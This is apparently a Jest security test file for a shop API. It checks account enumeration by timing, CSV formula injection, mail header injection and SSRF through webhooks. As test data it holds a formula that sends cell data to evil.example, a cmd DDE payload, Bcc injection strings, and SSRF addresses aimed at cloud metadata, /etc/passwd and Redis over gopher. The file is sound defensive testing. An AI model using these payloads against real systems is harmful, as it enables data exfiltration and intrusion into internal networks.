import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { readdirSync, readFileSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { ApiClient } from '../support/api-client.js';
import { ADDRESS, eventually, makeCart, makeVariant, orderBody, withDatabase } from '../support/shop-fixture.js';
import { asAdmin, asCustomer, startTestApp, type TestApp } from '../support/test-app.js';

/** What gets out by side ways: time, cells of a spreadsheet, headers of a mail, requests that the shop makes for somebody else. */

let shop: TestApp;
let admin: ApiClient;

beforeAll(async () => {
  shop = await startTestApp();
  admin = await asAdmin(shop);
}, 60_000);
afterAll(() => shop.close(), 60_000);

function median(values: readonly number[]): number {
  return [...values].sort((a, b) => a - b)[Math.floor(values.length / 2)] ?? 0;
}

describe('who has an account', () => {
  /** Medians of calls that take turns, so that what else the machine does strikes both alike. */
  async function compare(
    turns: number,
    one: (turn: number) => Promise<unknown>,
    other: (turn: number) => Promise<unknown>,
  ) {
    const times: [number[], number[]] = [[], []];
    for (let turn = 0; turn < turns; turn++)
      for (const [index, call] of [one, other].entries()) {
        const begin = performance.now();
        await call(turn);
        times[index]?.push(performance.now() - begin);
      }
    return { one: median(times[0]), other: median(times[1]) };
  }
  const near = ({ one, other }: { one: number; other: number }) =>
    Math.max(one, other) / Math.max(1, Math.min(one, other)) < 2 || Math.abs(one - other) < 10;

  it('is not told by signing in: neither by the answer nor by its time, with or without a password (Vendure GHSA-c63h-3vvx-48ph)', async () => {
    const { email } = await asCustomer(shop);
    const external = await asCustomer(shop);
    await withDatabase(shop, (client) =>
      client.query('update "user" set password_hash = null where id = $1', [external.id]),
    );
    const wrong = (address: string) =>
      shop.guest.post<Record<string, unknown>>('/v1/auth/login', { email: address, password: 'not the password' });
    const answers = await Promise.all([email, external.email, 'nobody@example.com'].map(wrong));
    const said = answers.map(({ status, json: { requestId: _, ...rest } }) => ({ status, rest }));
    expect(said[1]).toEqual(said[0]);
    expect(said[2]).toEqual(said[0]);
    const unknown = (turn: number) => wrong(`nobody-${turn}@example.com`);
    expect(near(await compare(15, () => wrong(email), unknown))).toBe(true);
    expect(near(await compare(15, () => wrong(external.email), unknown))).toBe(true);
  });

  it('is not told by asking for a new password', async () => {
    const people = await Promise.all(Array.from({ length: 12 }, () => asCustomer(shop)));
    const ask = (email: string) => shop.guest.post('/v1/auth/password-reset', { email });
    const [known, unknown] = [await ask(people[11]?.email ?? ''), await ask('nobody@example.com')];
    expect([known.status, known.text]).toEqual([unknown.status, unknown.text]);
    expect(known.status).toBeLessThan(300);
    const times = await compare(
      11,
      (turn) => ask(people[turn]?.email ?? ''),
      (turn) => ask(`none-${turn}@example.com`),
    );
    expect(near(times)).toBe(true);
  });
});

describe('formulas in exports (CWE-1236)', () => {
  const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1)', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1)', "'=1+1"];
  const runs = (cell: string) => /^\s*[=@＝]|^[+-](?!\d+(\.\d+)?$)/.test(cell);

  it('stand in the catalogue’s as text, and come back from it as they were', async () => {
    for (const [index, title] of FORMULAS.entries())
      await admin.post(
        '/v1/products',
        {
          title,
          vendor: title,
          tags: [title.replaceAll(',', '')],
          variants: [{ sku: `${title} ${index}`.slice(0, 60), price: { amount: 100, currency: 'GBP' } }],
        },
        { expect: 201 },
      );
    const before = await admin.get('/v1/catalog/exports?format=shopify', { expect: 200 });
    const rows: string[][] = parse(before.text);
    expect(rows.length).toBe(FORMULAS.length + 1);
    expect(rows.flat().filter(runs)).toEqual([]);
    const { json } = await admin.post<{ id: string }>('/v1/catalog/imports?format=shopify', before.text, {
      headers: { 'content-type': 'text/csv' },
      expect: 202,
    });
    const done = await eventually(
      async () => (await admin.get<{ status: string; errors: unknown[] }>(`/v1/catalog/imports/${json.id}`)).json,
      ({ status }) => status === 'completed' || status === 'failed',
    );
    expect(done).toMatchObject({ status: 'completed', errors: [] });
    const list = await admin.get<{ items: { title: string }[] }>('/v1/products?limit=100');
    expect(list.json.items.map(({ title }) => title).sort()).toEqual([...FORMULAS].sort());
    expect((await admin.get('/v1/catalog/exports?format=shopify')).text).toBe(before.text);
  });

  it('stand in the audit log’s as text', async () => {
    await admin.post(
      '/v1/roles',
      { name: 'formulas', permissions: [] },
      { headers: { 'user-agent': FORMULAS[0] ?? '' }, expect: 201 },
    );
    const { text } = await admin.get('/v1/audit-log/export?format=csv', {
      headers: { 'user-agent': FORMULAS[2] ?? '' },
      expect: 200,
    });
    const rows: string[][] = parse(text);
    expect(rows.flat().filter(runs)).toEqual([]);
    expect(text).toContain('HYPERLINK');
  });
});

describe('mails (CWE-93)', () => {
  it('have the headers that the shop writes, and no recipient but one', async () => {
    const { variantId } = await makeVariant(shop, { stock: 100 });
    const tries = [
      { email: 'a@example.com\r\nBcc: eve@example.com' },
      { email: 'a@example.com\nBcc: eve@example.com' },
      { email: 'a@example.com, eve@example.com' },
      { email: 'a@example.com;eve@example.com' },
      { email: '<a@example.com> eve@example.com' },
      { email: '"a\\" <eve@example.com>, "b"@example.com' },
      { shippingAddress: { ...ADDRESS, name: 'Eve\r\nBcc: eve@example.com' } },
      { shippingAddress: { ...ADDRESS, line1: 'x\nBcc: eve@example.com' } },
    ];
    for (const more of tries) {
      const cart = await makeCart(shop.guest, [{ variantId, quantity: 1 }]);
      expect((await shop.guest.post('/v1/orders', { ...orderBody(cart.id), ...more })).status).toBe(422);
    }
    for (const name of [
      'Eve\r\nBcc: eve@example.com',
      'Eve\nTo: eve@example.com',
      'Eve\u0085Bcc: e@example.com',
      'Eve\u2028Bcc: x',
    ])
      expect(
        (
          await shop.guest.post('/v1/auth/register', {
            email: 'n@example.com',
            password: 'seventeen purple elephants',
            name,
          })
        ).status,
      ).toBe(422);
    // What is allowed into a mail is text there.
    const cart = await makeCart(shop.guest, [{ variantId, quantity: 1 }]);
    const name = 'Bcc: eve@example.com =?utf-8?q?=0d=0aBcc:_eve?= %0d%0aBcc: x';
    await shop.guest.post(
      '/v1/orders',
      { ...orderBody(cart.id), shippingAddress: { ...ADDRESS, name } },
      { expect: 201 },
    );
    const folder = join(shop.dataDir, 'mail');
    const mails = await eventually(
      async () => {
        try {
          return readdirSync(folder).filter((file) => file.endsWith('.eml'));
        } catch {
          return [];
        }
      },
      (files) => files.length > 0,
    );
    for (const file of mails) {
      const [head = ''] = readFileSync(join(folder, file), 'utf8').split(/\r?\n\r?\n/, 1);
      const names = head.split(/\r?\n(?![ \t])/).map((line) => line.split(':', 1)[0]?.toLowerCase());
      expect(names.filter((header) => header === 'to')).toHaveLength(1);
      expect(names).not.toContain('bcc');
      expect(names).not.toContain('cc');
    }
  });
});

describe('requests that the shop makes (OWASP API7:2023, SSRF)', () => {
  it.each([
    'https://0x7f000001/',
    'https://017700000001/',
    'https://0177.0x0.0.1/',
    'https://127.0.0.1./',
    'https://[::]/',
    'https://[0:0:0:0:0:0:0:1]/',
    'https://[::ffff:7f00:1]/',
    'https://[::127.0.0.1]/',
    'https://[64:ff9b::7f00:1]/',
    'https://[2002:7f00:1::]/',
    'https://[fe80::1]/',
    'https://[fc00::1]/',
    'https://[ff02::1]/',
    'https://100.64.0.1/',
    'https://172.16.0.1/',
    'https://192.168.0.1/',
    'https://198.18.0.1/',
    'https://169.254.169.254/',
    'https://[fd00:ec2::254]/',
    'https://224.0.0.1/',
    'https://255.255.255.255/',
    'https://localhost./',
    'https://a.localhost/',
    'file:///etc/passwd',
    'gopher://127.0.0.1:6379/_x',
    'javascript:alert(1)',
    '//127.0.0.1/',
    'https://93.184.216.34@127.0.0.1/',
    'https://93.184.216.34:6379@127.0.0.1/',
    'https://127.0.0.1#@93.184.216.34/',
    'https://127.0.0.1\\@93.184.216.34/',
    'https://93.184.216.34:25/',
  ])('a webhook goes to no %s', async (url) => {
    const { status } = await admin.post('/v1/webhooks', { url, eventTypes: ['*'] });
    expect(status).toBe(422);
  });

  it('follows no redirect: the endpoint’s answer is the end of a try', async () => {
    const source = readFileSync(join(process.cwd(), 'src/webhooks/delivery/webhook-client.ts'), 'utf8');
    // node:http never follows one; whoever changes to a client that does must come by here.
    expect(source).toMatch(/from 'node:https?'/);
    expect(source).not.toMatch(/fetch\(|undici|axios|got\(/);
  });

  it('and pictures, whatever their address, are fetched by nobody', async () => {
    let connections = 0;
    const server = createServer((socket) => {
      connections++;
      socket.destroy();
    });
    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/picture.svg`;
    try {
      const made = await admin.post<{ id: string }>('/v1/products', {
        title: 'With a picture',
        description: `<img src="${url}"><iframe src="${url}"></iframe>`,
        images: [{ url, alt: 'x' }],
        variants: [{ sku: 'PICTURE', price: { amount: 100, currency: 'GBP' }, stock: 5, image: url }],
      });
      expect([201, 422]).toContain(made.status);
      const csv = `Handle,Title,Variant SKU,Variant Price,Image Src,Variant Image\npic,Pic,PIC-1,1.00,${url},${url}\n`;
      const { json } = await admin.post<{ id: string }>('/v1/catalog/imports?format=shopify', csv, {
        headers: { 'content-type': 'text/csv' },
        expect: 202,
      });
      await eventually(
        async () => (await admin.get<{ status: string }>(`/v1/catalog/imports/${json.id}`)).json,
        ({ status }) => status === 'completed' || status === 'failed',
      );
      await shop.guest.get('/v1/products?q=picture');
      await admin.get('/v1/catalog/exports?format=shopify');
      await new Promise((done) => setTimeout(done, 500));
      expect(connections).toBe(0);
    } finally {
      await new Promise<void>((closed) => server.close(() => closed()));
    }
  });
});
